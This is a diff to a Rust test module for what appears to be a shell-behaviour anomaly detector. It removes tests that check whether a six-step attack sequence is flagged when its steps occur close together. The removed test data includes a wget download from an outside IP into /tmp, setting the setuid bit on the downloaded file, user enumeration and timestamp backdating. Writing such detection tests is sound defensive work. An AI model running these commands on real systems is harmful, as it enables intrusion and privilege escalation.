@@ -3,7 +3,7 @@
 use super::*;
 use crate::{
     baseline::{Scoring, merge_scored},
-    behaviour::{Attributes, MAX_COMMANDS, ProcessParts},
+    behaviour::{Attributes, ProcessParts},
     testkit::{parts, seen},
     text::command_line,
 };
@@ -160,63 +160,4 @@ fn what_is_judged_again_with_the_scorer_at_hand_is_the_same() {
         let two = merge_scored(&mut kept.baseline, &batch, &kept.policy, &mut scoring, time);
         assert_eq!((one, &fresh.baseline), (two, &kept.baseline));
     }
-}
-
-/// Merges commands one after the other by the same shell, and says how many of them were unusual together, at most.
-fn unusual_together(steps: &[&str], seconds_between: i64) -> u32 {
-    let mut world = World::mature();
-    let everyday = include_str!("../../../corpus/benign.txt").lines();
-    let everyday = everyday.filter(|script| !script.starts_with('#')).step_by(2);
-    let sorted: std::collections::BTreeSet<String> = everyday.map(line).collect();
-    let learned = Attributes {
-        commands: sorted.into_iter().take(MAX_COMMANDS).collect(),
-        ..Attributes::default()
-    };
-    world.sees(&bash(), learned, at(2));
-    let mut scoring = Scoring::default();
-    for (number, script) in (0_i64..).zip(steps) {
-        let time = at(100 + number * seconds_between);
-        let report = BehaviourReport {
-            attributes: with(script),
-            ..seen(&bash(), time)
-        };
-        let batch = batch(
-            1_000 + number.cast_unsigned(),
-            pod("p1", "h1", digest('1')),
-            vec![report],
-        );
-        merge_scored(&mut world.baseline, &batch, &world.policy, &mut scoring, time);
-    }
-    let raised = world
-        .baseline
-        .entries()
-        .filter_map(|(_, _, entry)| entry.strangeness.clone());
-    raised.map(|why| why.together).max().unwrap_or(0)
-}
-
-/// An attack in steps, each of which might be anybody's work.
-const STEPS: [&str; 6] = [
-    "wget -q http://203.0.113.9/a -O /tmp/a",
-    "chmod u+s /tmp/a",
-    "getent passwd",
-    "crontab -l",
-    "touch -t 202601010000 /tmp/a",
-    "docker ps",
-];
-
-#[test]
-fn steps_that_are_each_usual_enough_are_unusual_together_within_an_hour() {
-    assert!(unusual_together(&STEPS, 10) >= 2);
-    assert_eq!(unusual_together(&STEPS, 3_601), 0);
-}
-
-#[test]
-fn new_everyday_commands_are_not_unusual_together() {
-    let everyday = include_str!("../../../corpus/benign.txt").lines();
-    let others: Vec<&str> = everyday
-        .filter(|script| !script.starts_with('#'))
-        .skip(1)
-        .step_by(20)
-        .collect();
-    assert_eq!(unusual_together(&others, 10), 0);
 }
